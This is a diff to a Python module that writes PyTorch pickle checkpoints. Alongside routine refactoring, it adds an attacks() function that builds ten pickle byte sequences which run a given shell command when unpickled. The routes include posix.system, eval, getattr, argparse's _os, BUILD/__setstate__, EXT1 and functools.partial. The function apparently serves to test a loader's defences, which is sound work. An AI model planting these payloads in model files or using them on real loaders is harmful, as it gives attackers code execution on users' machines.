@@ -102,7 +102,7 @@ def save_zip(path, tree, *, root="archive", order=b"little", compression=0, drop
 
 def save_legacy(path, tree, *, little_endian=True, keys=None, counts=None):
     """The form before torch 1.6."""
-    content, storages = pickled(tree)
+    content, storages = pickled(tree, legacy=True)
     sizes = {"short": 2, "int": 4, "long": 4}
     machine = {
         "protocol_version": 1001,
@@ -120,19 +120,19 @@ def save_legacy(path, tree, *, little_endian=True, keys=None, counts=None):
     return path
 
 
-def pickled(tree):
+def pickled(tree, *, legacy=False):
     """The pickle of a tree, and the storages it names."""
     out, storages = io.BytesIO(), {}
     out.write(b"\x80\x02")
-    _write(out, tree, storages)
+    _write(out, tree, storages, legacy)
     out.write(b".")
     return out.getvalue(), {key: array for key, array in storages.values()}
 
 
-def _write(out, value, storages):
+def _write(out, value, storages, legacy):
     def write(*values):
         for each in values:
-            _write(out, each, storages)
+            _write(out, each, storages, legacy)
 
     match value:
         case None:
@@ -147,8 +147,7 @@ def _write(out, value, storages):
         case float():
             out.write(b"G" + struct.pack(">d", value))
         case str():
-            text = value.encode()
-            out.write(b"X" + struct.pack("<I", len(text)) + text)
+            out.write(_text(value))
         case tuple():
             out.write(b"(")
             write(*value)
@@ -184,22 +183,47 @@ def _write(out, value, storages):
             shape = value.shape
             write(View(array.reshape(-1), 0, shape, strides[: len(shape)]))
         case View():
-            _write_view(out, value, storages)
+            key, array = storages.setdefault(
+                id(value.storage), (str(len(storages)), value.storage)
+            )
+            size = array.size if value.size is None else value.size
+            kind = Global("torch", STORAGES[array.dtype.name])
+            out.write(b"ctorch._utils\n_rebuild_tensor_v2\n(")
+            # The old form also says which part of another storage this one is.
+            write(("storage", kind, key, "cpu", size) + ((None,) if legacy else ()))
+            out.write(b"Q")
+            hooks = Call(Global("collections", "OrderedDict"))
+            write(value.offset, value.shape, value.strides, False, hooks)
+            out.write(b"tR")
         case _:
             raise TypeError(f"no pickle for {value!r}")
 
 
-def _write_view(out, view, storages):
-    key, array = storages.setdefault(
-        id(view.storage), (str(len(storages)), view.storage)
-    )
-    out.write(b"ctorch._utils\n_rebuild_tensor_v2\n((")
-    size = array.size if view.size is None else view.size
-    storage = Global("torch", STORAGES[array.dtype.name])
-    for part in ("storage", storage, key, "cpu", size):
-        _write(out, part, storages)
-    out.write(b"tQ")
-    hooks = Call(Global("collections", "OrderedDict"))
-    for part in (view.offset, view.shape, view.strides, False, hooks):
-        _write(out, part, storages)
-    out.write(b"tR")
+def attacks(command):
+    """Instructions by which a pickle runs a shell command, each leaving one value.
+
+    They need the header of protocol 4.
+    """
+    system, words = b"cposix\nsystem\n", _text(command)
+    evaluated = _text(f"__import__('posix').system({command!r})")
+    return {
+        "REDUCE": system + words + b"\x85R",
+        "STACK_GLOBAL": _text("posix") + _text("system") + b"\x93" + words + b"\x85R",
+        # argparse imports os under this name, and a dotted name goes through it.
+        "dotted": _text("argparse") + _text("_os.system") + b"\x93" + words + b"\x85R",
+        "INST": b"(" + words + b"iposix\nsystem\n",
+        "OBJ": b"(" + system + words + b"o",
+        # An attribute __setstate__ is called by the next BUILD.
+        "BUILD": b"ctypes\nSimpleNamespace\n)\x81}"
+        + (_text("__setstate__") + system + b"sb" + words + b"b"),
+        # A name by number, as copyreg.add_extension gave it.
+        "EXT1": b"\x82\xf0" + words + b"\x85R",
+        "eval": b"cbuiltins\neval\n" + evaluated + b"\x85R",
+        "getattr": b"cbuiltins\ngetattr\ncargparse\n_os\n"
+        + (_text("system") + b"\x86R" + words + b"\x85R"),
+        "partial": b"cfunctools\npartial\n" + system + words + b"\x86R)R",
+    }
+
+
+def _text(value):
+    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
